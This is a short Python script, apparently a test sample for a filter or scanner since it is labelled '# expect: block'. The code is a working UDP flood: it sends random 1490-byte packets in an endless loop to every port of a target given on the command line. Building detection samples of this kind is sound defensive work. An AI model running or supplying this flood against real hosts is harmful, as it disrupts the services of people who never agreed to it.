# expect: block
import random
import socket
import sys

target = sys.argv[1] if len(sys.argv) > 1 else "203.0.113.50"
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
packet = random._urandom(1490)
port = 1
while True:
    sock.sendto(packet, (target, port))
    port = port + 1 if port < 65534 else 1
